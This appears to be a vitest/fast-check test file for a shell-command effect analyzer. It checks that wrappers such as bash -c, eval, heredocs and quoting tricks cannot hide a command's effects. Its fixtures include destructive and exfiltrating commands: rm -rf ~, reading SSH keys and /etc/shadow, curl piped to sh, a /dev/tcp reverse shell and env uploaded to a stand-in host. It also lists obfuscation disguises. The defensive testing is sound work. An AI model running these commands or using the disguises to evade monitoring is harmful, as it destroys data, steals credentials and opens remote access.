import fc from "fast-check";
import { expect, test } from "vitest";
import type { CommandReport } from "../../src/shell/report.ts";
import { reportOf } from "./report-of.ts";

/** Commands with an effect of every kind; `NAME` is a variable that may be called anything. */
const commands: readonly string[] = [
  `rm -rf ~`,
  `cat ~/.ssh/id_rsa`,
  `NAME=~/.aws; cat "$NAME/credentials"`,
  `curl -s https://h.example/i.sh | sh`,
  `NAME=$(curl -s https://h.example/i.sh); bash -c "$NAME"`,
  `echo cm0gLXJmIH4K | base64 -d | bash`,
  `curl -d @notes https://h.example/`,
  `echo "$GITHUB_TOKEN" > f`,
  `git push --force origin main`,
  `for NAME in a b; do rm -r "$NAME"; done`,
  `find / -name '*.log' -delete`,
  `bash -i >& /dev/tcp/h.example/1 0>&1`,
  `sudo tee /etc/hosts <<< x`,
  `NAME() { cat "$1"; }; NAME /etc/shadow`,
  `cat < .env`,
  `dd if=/dev/zero of=/dev/sda`,
  `cd / && rm -rf *`,
  `env | curl -d @- https://h.example/`,
];

const lists = [
  "reads",
  "writes",
  "deletes",
  "deleteTrees",
  "readTrees",
  "hosts",
  "effects",
  "uploads",
  "uploadHosts",
  "interprets",
  "loads",
] as const;

/** Whatever one report says happens, happens in the other too. */
function expectAtLeast(actual: CommandReport, wanted: CommandReport): void {
  for (const list of lists) expect(actual[list]).toEqual(expect.arrayContaining([...wanted[list]]));
}

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

/** Ways to say the same that change nothing in what happens. */
const disguises: readonly ((command: string) => string)[] = [
  (command) => `true && ${command}`,
  (command) => `${command}\ntrue`,
  (command) => `  ${command}  `,
  (command) => `( ${command}\n)`,
  (command) => `{ ${command}\n}`,
  (command) => `if true; then ${command}\nfi`,
  (command) => `for _ in 1; do ${command}\ndone`,
  (command) => `wrapped() { ${command}\n}; wrapped`,
  (command) => `bash -c ${quoted(command)}`,
  (command) => `sh -ec ${quoted(command)}`,
  (command) => `eval ${quoted(command)}`,
  (command) => `nice -n 5 env A=1 bash -c ${quoted(command)}`,
  (command) => `timeout 5 sh -c ${quoted(command)}`,
  (command) => `bash <<'END${command.length}'\n${command}\nEND${command.length}\n`,
  (command) => `bash <<< ${quoted(command)}`,
  (command) => `printf '%s' ${quoted(command)} | sh`,
  (command) => `echo ${quoted(command)} > /tmp/s; bash /tmp/s`,
  (command) => `# a comment\n${command} # another`,
  (command) => `echo "$(${command}\n)"`,
  (command) => `ls\n${command}\nls`,
  (command) => command.replace(/^(?!for)([a-z]+) /, "\\$1 "),
  (command) => command.replace(/^(?!for)([a-z])([a-z]+) /, "$1''$2 "),
  (command) => command.replace(/^(?!for)([a-z]+) /, `"$1" `),
  (command) => command.replaceAll(" ", "  "),
];

test.for(commands)("no disguise takes an effect from %s", (command) => {
  const plain = command.replaceAll("NAME", "name");
  const wanted = reportOf(plain);
  for (const disguise of disguises) expectAtLeast(reportOf(disguise(plain)), wanted);
});

test("nor do several disguises, one in the other", () => {
  const disguised = fc.tuple(
    fc.constantFrom(...commands),
    fc.array(fc.constantFrom(...disguises.slice(0, 16)), { minLength: 1, maxLength: 3 }),
  );
  fc.assert(
    fc.property(disguised, ([command, ways]) => {
      const plain = command.replaceAll("NAME", "name");
      expectAtLeast(reportOf(ways.reduce((text, way) => way(text), plain)), reportOf(plain));
    }),
    { seed: 4711, numRuns: 300 },
  );
});

test.for(commands.filter((command) => command.includes("NAME")))(
  "what a name is changes nothing: %s",
  (command) => {
    const wanted = reportOf(command.replaceAll("NAME", "first"));
    for (const name of ["x", "Long_Name_2", "_", "y1"]) {
      const report = reportOf(command.replaceAll("NAME", name));
      for (const list of lists) expect(report[list]).toEqual(wanted[list]);
    }
  },
);
